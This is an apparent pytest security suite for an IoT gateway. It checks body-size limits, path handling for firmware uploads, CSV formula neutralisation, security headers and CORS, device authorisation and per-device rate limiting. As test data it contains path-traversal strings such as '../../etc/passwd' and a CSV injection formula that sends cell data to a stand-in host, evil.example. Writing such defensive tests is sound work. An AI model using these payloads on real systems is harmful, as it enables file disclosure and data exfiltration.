"""The gateway's doors: bodies over their limit refused before they are read, firmware names
that cannot leave the storage folder, CSV without formulas, security headers, CORS off, and
device firmware endpoints open only to known, non-deleted devices."""

from __future__ import annotations

import asyncio
import time
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest

from services.gateway.auth.throttle import DEVICE_REQUESTS_PER_WINDOW
from tests.integration.firmware.helpers import fresh_major, register, uploaded
from tests.security.helpers import assert_problem
from tests.support.console import Console
from tests.support.mqtt import publish
from tests.support.waiting import eventually

HUGE_BYTES = 10 * 1024 * 1024 * 1024  # announced, never sent


async def _announce_huge_body(console: Console, path: str, token: str | None,
                              content_type: str) -> tuple[int, float]:
    """POST announcing a huge Content-Length, send a few bytes and stall: the status line must
    come back without the body having been read (status, seconds it took)."""
    reader, writer = await asyncio.open_connection("127.0.0.1", console.http_port)
    started = time.monotonic()
    auth = f"Authorization: Bearer {token}\r\n" if token else ""
    writer.write((f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n{auth}"
                  f"Content-Type: {content_type}\r\nContent-Length: {HUGE_BYTES}\r\n\r\n"
                  ).encode() + b"x" * 1024)
    await writer.drain()
    try:
        async with asyncio.timeout(10):
            status_line = await reader.readline()
    finally:
        writer.close()
    return int(status_line.split()[1]), time.monotonic() - started


@pytest.mark.parametrize(("path", "content_type"), [
    ("/api/auth/login", "application/json"),
    ("/api/firmware", "multipart/form-data; boundary=xyz"),
    ("/api/devices/ACV-000000000001/command", "application/json"),
])
async def test_a_huge_body_is_refused_with_413_before_it_is_read(
        console: Console, path: str, content_type: str) -> None:
    status, took_s = await _announce_huge_body(console, path, console.token("admin"),
                                               content_type)
    assert status == 413
    assert took_s < 5


@pytest.mark.parametrize("version", ["../../etc/passwd", "..", "1.0.0/../../x", "/etc/passwd",
                                     "1.0.0\x00.bin", "%2e%2e%2f%2e%2e%2fetc"])
async def test_firmware_versions_cannot_name_a_path(console: Console, version: str) -> None:
    async with console.client("admin") as admin:
        upload = await admin.post("/api/firmware", files={
            "file": ("../../evil.bin", b"\xe9" + b"\x00" * 4095, "application/octet-stream")},
            data={"version": version})
        assert_problem(upload, 400, 422)
        encoded = quote(version, safe="").replace(".", "%2E")  # no client-side "../" folding
        assert_problem(await admin.get(f"/api/firmware/{encoded}"), 400, 404, 422)
        download = await admin.get(f"/api/firmware/download/{encoded}")
        assert_problem(download, 400, 401, 404, 422)
    storage = console.data_dir / "firmware"
    outside = [p for p in console.data_dir.rglob("*") if "evil" in p.name or p.name == "passwd"]
    assert outside == [] and not Path(storage.parent.parent, "evil.bin").exists()


async def test_a_legit_upload_stays_inside_the_storage_folder(console: Console) -> None:
    version = f"{fresh_major()}.0.0"
    async with console.client("admin") as admin:
        await uploaded(admin, version)
    storage = (console.data_dir / "firmware").resolve()
    stored = [p for p in storage.rglob("*") if p.is_file()]
    assert stored and all(p.resolve().is_relative_to(storage) for p in stored)
    assert not any(version in p.name for p in stored)  # stored by digest, not by name


async def test_csv_export_neutralises_formulas(console: Console, device_id: str) -> None:
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    await publish(f"{console.topic_prefix}/{device_id}/telemetry", {
        "ts": int(time.time()) - 60,
        "data": {"note": hostile, "plus": "+1+2", "at": "@SUM(A1)", "v1": -3.5}})
    async with console.client("viewer") as http:
        async def exported() -> str:
            reply = await http.get(f"/api/devices/{device_id}/telemetry/export", params={
                "from": int(time.time()) - 3600, "to": int(time.time()) + 60})
            assert reply.status_code == 200 and "HYPERLINK" in reply.text, reply.text
            return reply.text

        text = await eventually(exported, timeout_s=15, what="reading exported")
    assert "'=HYPERLINK" in text and "'+1+2" in text and "'@SUM(A1)" in text
    assert "-3.5" in text and "'-3.5" not in text  # numbers stay numbers
    for line in text.splitlines():
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "@")), line


async def test_security_headers_and_no_cors_by_default(console: Console) -> None:
    async with httpx.AsyncClient(base_url=console.base_url, timeout=10) as http:
        for path in ("/api/health", "/api/devices", "/", "/swagger", "/api/nothing-here"):
            reply = await http.get(path, headers={"Origin": "https://evil.example"})
            assert reply.headers["x-content-type-options"] == "nosniff", path
            assert reply.headers["x-frame-options"] == "DENY", path
            csp = reply.headers["content-security-policy"]
            assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp, path
            assert "access-control-allow-origin" not in reply.headers, path
        preflight = await http.options("/api/devices", headers={
            "Origin": "https://evil.example", "Access-Control-Request-Method": "GET"})
        assert "access-control-allow-origin" not in preflight.headers


async def test_firmware_endpoints_refuse_unknown_and_deleted_devices(
        console: Console, device_id: str) -> None:
    version = f"{fresh_major()}.0.0"
    async with console.client("admin") as admin:
        await uploaded(admin, version)
    device = {"X-Device-Id": device_id}
    async with httpx.AsyncClient(base_url=console.base_url, timeout=10) as http:
        unknown = await http.get("/api/firmware/check", headers=device)
        assert_problem(unknown, 401, 404)
        assert_problem(await http.get(f"/api/firmware/download/{version}", headers=device),
                       401, 404)
        await register(console, device_id, "0.0.1")
        assert (await http.get(f"/api/firmware/download/{version}",
                               headers=device)).status_code == 200
        async with console.client("operator") as operator:
            assert (await operator.delete(f"/api/devices/{device_id}")).status_code == 204

        async def revoked() -> bool:
            check = await http.get("/api/firmware/check", headers=device)
            download = await http.get(f"/api/firmware/download/{version}", headers=device)
            return check.status_code in (401, 404) and download.status_code in (401, 404)

        await eventually(revoked, timeout_s=15, what="a deleted device is refused")


async def test_device_firmware_endpoints_are_rate_limited_per_device(
        console: Console, device_id: str) -> None:
    other = "ACV-" + device_id[-8:] + "FFFF"
    await register(console, device_id, "0.0.1")
    await register(console, other, "0.0.1")
    async with httpx.AsyncClient(base_url=console.base_url, timeout=10) as http:
        codes = [(await http.get("/api/firmware/check", headers={"X-Device-Id": device_id})
                  ).status_code for _ in range(DEVICE_REQUESTS_PER_WINDOW + 20)]
        refused = await http.get("/api/firmware/check", params={"device_id": device_id})
        neighbour = await http.get("/api/firmware/check", headers={"X-Device-Id": other})
    answered = [code for code in codes if code != 429]
    # `register` polled the check a few times: those count in the same window.
    assert DEVICE_REQUESTS_PER_WINDOW - 50 <= len(answered) <= DEVICE_REQUESTS_PER_WINDOW
    assert codes == answered + [429] * (len(codes) - len(answered))  # refused from then on
    assert refused.status_code == 429 and int(refused.headers["retry-after"]) > 0
    assert refused.headers["content-type"].startswith("application/problem+json")
    assert neighbour.status_code != 429  # one device's flood costs no other device
